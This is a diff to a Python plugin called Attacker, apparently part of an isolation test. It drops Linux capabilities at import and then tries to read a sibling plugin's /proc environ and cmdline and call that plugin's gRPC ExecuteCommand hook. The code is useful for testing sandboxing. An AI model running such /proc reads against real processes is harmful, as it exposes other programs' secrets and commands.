@@ -7,8 +7,9 @@ report of what worked:
   with its own;
 * dial the sibling's own gRPC socket and call its ExecuteCommand hook directly, without the host.
 
-When it runs as root it first drops every capability of the attacking thread, to stand in for an ordinary
-same-user process (root's CAP_SYS_PTRACE would open any /proc file regardless of the target's settings).
+Run as root, it drops every capability at import, to stand in for an ordinary same-user process (root's
+CAP_SYS_PTRACE would open any /proc file whatever the target's settings); the victim does the same
+(fixture.json "drop_capabilities"), since a process without capabilities may not look into one with them.
 """
 
 import ctypes
@@ -33,11 +34,14 @@ def drop_capabilities() -> str:
         _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32), ("inheritable", ctypes.c_uint32)]
 
     libc = ctypes.CDLL(None, use_errno=True)
-    header = Header(0x20080522, 0)  # _LINUX_CAPABILITY_VERSION_3, this thread
+    header = Header(0x20080522, 0)  # _LINUX_CAPABILITY_VERSION_3, this thread: at import, the only one
     data = (Data * 2)()
     if libc.capset(ctypes.byref(header), data) != 0:
         return "capset failed: errno %d" % ctypes.get_errno()
     return "dropped"
+
+
+CAPABILITIES = drop_capabilities()
 
 
 def read_proc(pid: int, name: str) -> tuple[str, bytes]:
@@ -66,7 +70,7 @@ class Attacker(Plugin):
     def execute_command(self, context, args):
         _, pid_text, base = args.command.split()
         victim = int(pid_text)
-        report = {"capabilities": drop_capabilities()}
+        report = {"capabilities": CAPABILITIES}
         report["environ"], environ = read_proc(victim, "environ")
         report["cmdline"], cmdline = read_proc(victim, "cmdline")
         found = variables(environ)
